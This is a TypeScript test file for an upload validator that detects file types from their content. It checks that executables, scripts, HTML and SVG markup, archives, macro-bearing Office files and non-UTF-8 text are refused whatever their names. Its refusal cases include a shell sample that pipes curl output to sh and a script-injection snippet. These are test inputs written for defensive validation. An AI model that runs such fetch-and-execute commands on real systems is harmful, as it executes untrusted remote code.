import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { detectMediaType } from './detect-media-type';
import type { RefusedKind } from './media-types';
import { MediaTypeRefusedError } from './storage-errors';
import * as sample from './testing/samples';

let dir: string;
beforeAll(() => (dir = mkdtempSync(join(tmpdir(), 'media-type-spec-'))));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** Writes `bytes` under `name` (names are there to show they are ignored) and detects its type. */
function detect(name: string, bytes: Buffer | string): Promise<string> {
  const path = join(dir, name);
  writeFileSync(path, bytes);
  return detectMediaType(path);
}

async function refusal(name: string, bytes: Buffer | string): Promise<MediaTypeRefusedError> {
  const error = await detect(name, bytes).then(
    (type) => new Error(`accepted as ${type}`),
    (thrown: unknown) => thrown,
  );
  if (!(error instanceof MediaTypeRefusedError)) throw error;
  return error;
}

describe('evidence type from content', () => {
  it.each([
    ['report.pdf', sample.pdf, 'application/pdf'],
    ['chart.png', sample.png, 'image/png'],
    ['photo.jpg', sample.jpeg, 'image/jpeg'],
    ['logo.gif', sample.gif, 'image/gif'],
    ['scan.webp', sample.webp, 'image/webp'],
  ])('accepts %s by its signature', async (name, make, type) => {
    await expect(detect(name, make())).resolves.toBe(type);
  });

  it.each([
    ['docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
    ['pptx', 'application/vnd.openxmlformats-officedocument.presentationml.presentation'],
  ] as const)('tells a .%s from a zip by its [Content_Types].xml', async (kind, type) => {
    await expect(detect(`minutes.${kind}`, await sample.office(kind))).resolves.toBe(type);
  });

  it.each(['text', 'spreadsheet', 'presentation'] as const)(
    'tells an OpenDocument %s by its mimetype entry',
    async (kind) => {
      await expect(detect('minutes.odt', await sample.openDocument(kind))).resolves.toBe(
        `application/vnd.oasis.opendocument.${kind}`,
      );
    },
  );

  it('accepts UTF-8 text and CSV, accents and a byte-order mark included', async () => {
    await expect(detect('data.csv', 'indicator,baseline,target\nShelters,3,12\n')).resolves.toBe(
      'text/plain',
    );
    await expect(detect('notes.txt', '\ufeffLjubljana: Šentjur, Črnomelj — 100 %\r\n')).resolves.toBe(
      'text/plain',
    );
  });

  it('reads text in chunks without breaking a character split between them', async () => {
    // 65,535 ASCII bytes put the two bytes of "Š" on either side of the 64 KiB read boundary.
    const text = Buffer.concat([Buffer.alloc(65_535, 'a'), Buffer.from('Š end\n')]);
    await expect(detect('long.txt', text)).resolves.toBe('text/plain');
  });

  it.each<[string, string, RefusedKind, () => Buffer | string]>([
    ['setup.exe', 'a Windows or DOS program (MZ/PE)', 'executable', sample.windowsProgram],
    ['report.pdf', 'a Windows or DOS program (MZ/PE)', 'executable', sample.windowsProgram],
    ['tool', 'a Linux or Unix program (ELF)', 'executable', sample.elfProgram],
    ['photo.jpg', 'a macOS program (Mach-O)', 'executable', sample.machOProgram],
    ['data.csv', 'a script (#!)', 'script', () => '#!/bin/sh\ncurl example.org | sh\n'],
    ['notes.txt', 'an HTML page', 'markup', () => '<!DOCTYPE html><html><script>alert(1)</script></html>'],
    ['page.txt', 'an HTML page', 'markup', () => '\ufeff\n  <html><body>hello</body></html>'],
    [
      'chart.png',
      'an SVG image, which can carry scripts',
      'markup',
      () => '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>',
    ],
    ['data.xml', 'HTML or XML markup', 'markup', () => '<?xml version="1.0"?><data/>'],
    [
      'legacy.doc',
      'a Word/Excel 97–2003 or password-protected Office file (OLE)',
      'legacy_office',
      () => Buffer.from('d0cf11e0a1b11ae1' + '00'.repeat(504), 'hex'),
    ],
    ['data.csv.gz', 'a gzip archive', 'archive', () => Buffer.from('1f8b0800000000000003', 'hex')],
    [
      'latin1.csv',
      'text that is not UTF-8 (or a binary format that is not recognised); save text as UTF-8',
      'text_encoding',
      () => Buffer.from('Ljubljana;\xc8rnomelj\n', 'latin1'),
    ],
    [
      'utf16.txt',
      'UTF-16 text; save it as UTF-8',
      'text_encoding',
      () => Buffer.from('\ufeffhello', 'utf16le'),
    ],
    [
      'blob.bin',
      'a binary format that is not recognised',
      'unknown',
      () => Buffer.from('just text\x00with a NUL'),
    ],
    ['empty.pdf', 'empty (0 bytes)', 'empty', () => Buffer.alloc(0)],
  ])('refuses %s whatever its name: %s', async (name, description, detected, make) => {
    const error = await refusal(name, make());
    expect(error).toMatchObject({ detected, description });
    expect(error.message).toContain(`The file is ${description}, which is not accepted as evidence.`);
  });

  it('refuses a plain zip, even named .docx', async () => {
    const error = await refusal('minutes.docx', await sample.zip([['word/document.xml', '<w:document/>']]));
    expect(error).toMatchObject({ detected: 'archive', description: 'a ZIP archive' });
  });

  it('refuses an Office package of another kind, and a zip whose mimetype is not OpenDocument', async () => {
    const template = await sample.zip([
      [
        '[Content_Types].xml',
        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"/></Types>',
      ],
    ]);
    expect(await refusal('letter.docx', template)).toMatchObject({
      detected: 'archive',
      description: 'an Office package that is not a .docx, .xlsx or .pptx',
    });
    const epub = await sample.zip(
      [
        ['mimetype', 'application/epub+zip'],
        ['content.xml', '<x/>'],
      ],
      ['mimetype'],
    );
    expect(await refusal('book.odt', epub)).toMatchObject({
      detected: 'archive',
      description: 'a ZIP archive',
    });
  });

  it('refuses Office documents with macros, whatever they are called', async () => {
    const docm = await sample.office('docm', [['word/vbaProject.bin', Buffer.alloc(64, 1)]]);
    expect(await refusal('report.docx', docm)).toMatchObject({ detected: 'office_macros' });
    // A .docx content type, but a VBA project inside all the same.
    const hidden = await sample.office('docx', [['word/vbaProject.bin', Buffer.alloc(64, 1)]]);
    expect(await refusal('report.docx', hidden)).toMatchObject({ detected: 'office_macros' });
    const basic = await sample.openDocument('text', [['Basic/Standard/Module1.xml', '<script:module/>']]);
    expect(await refusal('report.odt', basic)).toMatchObject({ detected: 'office_macros' });
  });

  it('refuses a Java archive as a program', async () => {
    const jar = await sample.zip([
      ['META-INF/MANIFEST.MF', 'Main-Class: Tool\n'],
      ['Tool.class', 'x'],
    ]);
    expect(await refusal('data.xlsx', jar)).toMatchObject({ detected: 'executable' });
  });

  it('refuses a damaged zip, saying so', async () => {
    const truncated = (await sample.office('docx')).subarray(0, 120);
    const error = await refusal('minutes.docx', truncated);
    expect(error.detected).toBe('unknown');
    expect(error.description).toMatch(/^a damaged ZIP file \(/);
  });

  it('lists what is accepted in the message', async () => {
    const error = await refusal('setup.pdf', sample.windowsProgram());
    expect(error.message).toBe(
      'The file is a Windows or DOS program (MZ/PE), which is not accepted as evidence. Accepted: PDF, PNG, JPEG, GIF, WebP, ' +
        'Word (.docx), Excel (.xlsx), PowerPoint (.pptx), OpenDocument text (.odt), OpenDocument spreadsheet (.ods), ' +
        'OpenDocument presentation (.odp), plain UTF-8 text (.txt, .csv).',
    );
  });
});
